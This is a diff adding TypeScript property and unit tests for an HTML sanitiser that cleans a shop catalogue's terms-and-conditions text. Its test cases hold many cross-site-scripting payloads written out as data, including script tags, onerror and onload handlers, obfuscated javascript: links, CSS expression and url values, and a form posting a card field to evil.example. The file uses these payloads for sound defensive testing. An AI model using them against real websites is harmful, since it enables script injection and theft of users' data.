@@ -1,0 +1,210 @@
+import fc from 'fast-check';
+import { describe, expect, test } from 'vitest';
+import { sanitiseTerms } from '../../src/catalog/sanitise.ts';
+
+/** Interface documentation: terms_and_conditions. */
+const allowed = new Set(
+  'p br ul ol li b strong i em u a span div h4 h5 h6 small sup sub table thead tbody tr th td'.split(' '),
+);
+
+/** What the HTML holds beyond text, allowed tags without attributes, and links to https pages that open apart. */
+function intruders(html: string): string[] {
+  const tag = /<(\/?)([a-z0-9]+)((?: [a-z]+="[^"]*")*)( \/)?>/g;
+  const found: string[] = [];
+  const rest = html.replace(tag, (whole, close: string, name: string, attributes: string) => {
+    const names = [...attributes.matchAll(/ ([a-z]+)="([^"]*)"/g)].map(
+      ([, attribute, value]) => `${attribute}=${value}`,
+    );
+    const ours = ['rel=noopener noreferrer nofollow', 'target=_blank'];
+    const fine =
+      name === 'a' && close === ''
+        ? ours.every((one) => names.includes(one)) &&
+          names.every((one) => ours.includes(one) || /^href=https:\/\//i.test(one))
+        : names.every((one) => /^style=[\w\s:;#.%(),/-]*$/.test(one) && !/url|position|expression/i.test(one));
+    if (!allowed.has(name) || !fine) found.push(whole);
+    return '';
+  });
+  return /[<>]/.test(rest) ? [...found, rest] : found;
+}
+
+describe('hostile terms lose what is hostile', () => {
+  test.each([
+    ['a script with its text', '<p>ok</p><script>alert(1)</script>', '<p>ok</p>'],
+    ['a script in capitals', '<SCRIPT SRC="https://evil.example/x.js"></SCRIPT>ok', 'ok'],
+    ['a script in a script', '<scr<script>ipt>alert(1)</scr</script>ipt>', null],
+    ['a style with its text', '<style>p{background:url(//evil.example)}</style>ok', 'ok'],
+    ['an event handler', '<p onclick="alert(1)">ok</p>', '<p>ok</p>'],
+    ['a style attribute, a class and an id', '<p style="position:fixed" class="x" id="y">ok</p>', '<p>ok</p>'],
+    ['a picture', 'a<img src=x onerror=alert(1)>b', 'ab'],
+    ['a frame', '<iframe src="https://evil.example"></iframe>ok', 'ok'],
+    ['an SVG', '<svg onload=alert(1)><a xlink:href="javascript:alert(1)">ok</a></svg>', null],
+    ['mathematics', '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>', null],
+    ['a form', '<form action="https://evil.example"><input name=card><button>Pay</button></form>', 'Pay'],
+    ['an object and its base', '<base href="https://evil.example/"><object data="x"></object><embed src="x">ok', 'ok'],
+    ['a redirect', '<meta http-equiv="refresh" content="0;url=https://evil.example">ok', 'ok'],
+    ['a comment', 'a<!-- <script>alert(1)</script> -->b', 'ab'],
+    ['a comment that never ends', 'a<!-- b', 'a'],
+    ['an attribute that never ends', '<p title="x', null],
+    ['a tag that never ends', 'ok<script', null],
+    ['a template', '<template><script>alert(1)</script></template>ok', null],
+    ['a text area that hides a tag', '<textarea></textarea><img src=x onerror=alert(1)></textarea>', null],
+    ['headings that are too large', '<h1>Big</h1><h4>Small</h4>', 'Big<h4>Small</h4>'],
+  ])('%s', (_name, html, expected) => {
+    const clean = sanitiseTerms(html);
+    expect(intruders(clean)).toEqual([]);
+    expect(clean).not.toMatch(/javascript:|onerror=|onload=/i);
+    if (expected !== null) expect(clean).toBe(expected);
+  });
+});
+
+describe('inline styles', () => {
+  test.each([
+    ['color:#c00', 'color:#c00'],
+    ['color: RED; background-color: rgb(0 0 0 / 50%)', 'color:RED;background-color:rgb(0 0 0 / 50%)'],
+    ['font-weight:700;text-align:center;font-size:12px', 'font-weight:700;text-align:center;font-size:12px'],
+    ['font-size:0.9em', 'font-size:0.9em'],
+  ])('keep colour, weight, alignment and size: %s', (style, kept) => {
+    expect(sanitiseTerms(`<p style="${style}">x</p>`)).toBe(`<p style="${kept}">x</p>`);
+  });
+
+  test.each([
+    'position:fixed;inset:0',
+    'background:url(https://evil.example/x)',
+    'background-color:url(https://evil.example/x)',
+    'color:expression(alert(1))',
+    'color:var(--x)',
+    'font-size:9999px',
+    'font-size:100vw',
+    'margin:-99px',
+    'display:none',
+    'color:red;}body{display:none',
+  ])('lose all else: %s', (style) => {
+    const clean = sanitiseTerms(`<p style="${style}">x</p>`);
+    expect(['<p>x</p>', '<p style="color:red">x</p>', '<p style="">x</p>']).toContain(clean);
+  });
+});
+
+describe('links', () => {
+  const rest = 'rel="noopener noreferrer nofollow" target="_blank"';
+
+  test('to https pages stay, and open apart', () => {
+    expect(sanitiseTerms('<a href="https://shop.example/terms?a=1&amp;b=2#x">Terms</a>')).toBe(
+      `<a href="https://shop.example/terms?a=1&amp;b=2#x" ${rest}>Terms</a>`,
+    );
+    expect(sanitiseTerms('<a href="HTTPS://shop.example" target="_self" rel="opener" onclick="x()">T</a>')).toBe(
+      `<a href="HTTPS://shop.example" ${rest}>T</a>`,
+    );
+  });
+
+  test.each([
+    'javascript:alert(1)',
+    'JaVaScRiPt:alert(1)',
+    ' javascript:alert(1)',
+    'java\tscript:alert(1)',
+    'java&#10;script:alert(1)',
+    '&#x6A;avascript:alert(1)',
+    'vbscript:x',
+    'data:text/html,<script>alert(1)</script>',
+    'http://shop.example',
+    'ftp://shop.example',
+    'mailto:ann@example.com',
+    'tel:+49151',
+    '//evil.example',
+    '/\\evil.example',
+    '\\\\evil.example',
+    '/relative',
+    'relative.html',
+    '#part',
+    '?query',
+    '',
+  ])('to %j lose their address, and the text stays', (href) => {
+    expect(sanitiseTerms(`<a href="${href}">Terms</a>`)).toBe(`<a ${rest}>Terms</a>`);
+  });
+});
+
+test('structure and text of ordinary terms stay as they are', () => {
+  const html =
+    '<h4>Terms</h4><p>For <strong>new</strong> customers &amp; friends.<br />Until 31&nbsp;May.</p>' +
+    '<ul><li>One</li><li><em>Two</em></li></ul>' +
+    '<table><thead><tr><th>A</th></tr></thead><tbody><tr><td>1<sup>2</sup></td></tr></tbody></table>';
+  expect(sanitiseTerms(html)).toBe(html.replace('&nbsp;', '\u00a0'));
+});
+
+describe('whatever is given', () => {
+  const names = [
+    ...allowed,
+    'script',
+    'style',
+    'img',
+    'svg',
+    'iframe',
+    'math',
+    'textarea',
+    'noscript',
+    'xmp',
+    'title',
+    'template',
+    'form',
+  ];
+  const attribute = fc.constantFrom(
+    'onclick="alert(1)"',
+    'href="javascript:alert(1)"',
+    'href="https://a.example"',
+    "href='//b.example'",
+    'href=/c',
+    'style="x"',
+    'src=x onerror=y',
+    'rel="opener"',
+    'target=_top',
+    'a"b',
+    'xlink:href="javascript:x"',
+    'title="<script>"',
+  );
+  const piece = fc.oneof(
+    fc
+      .tuple(fc.constantFrom(...names), fc.array(attribute, { maxLength: 3 }))
+      .map(([name, list]) => `<${[name, ...list].join(' ')}>`),
+    fc.constantFrom(...names).map((name) => `</${name}>`),
+    fc.constantFrom(
+      '<',
+      '>',
+      '"',
+      "'",
+      '&',
+      '&lt;script&gt;',
+      '<!--',
+      '-->',
+      '<![CDATA[',
+      ']]>',
+      '<?',
+      '</',
+      '\0',
+      '=',
+      '/',
+      ' ',
+      'text',
+    ),
+    fc.string({ maxLength: 8 }),
+  );
+  const hostile = fc.array(piece, { maxLength: 25 }).map((pieces) => pieces.join(''));
+
+  test('no tag and no attribute outside the list comes out', () => {
+    fc.assert(
+      fc.property(hostile, (html) => {
+        expect(intruders(sanitiseTerms(html))).toEqual([]);
+      }),
+      { numRuns: 2000 },
+    );
+  });
+
+  test('its text is the same when what came out is cleaned again', () => {
+    const textOf = (html: string): string => html.replace(/<[^>]*>/g, '');
+    fc.assert(
+      fc.property(hostile, (html) => {
+        const once = sanitiseTerms(html);
+        expect(textOf(sanitiseTerms(once))).toBe(textOf(once));
+      }),
+      { numRuns: 1000 },
+    );
+  });
+});
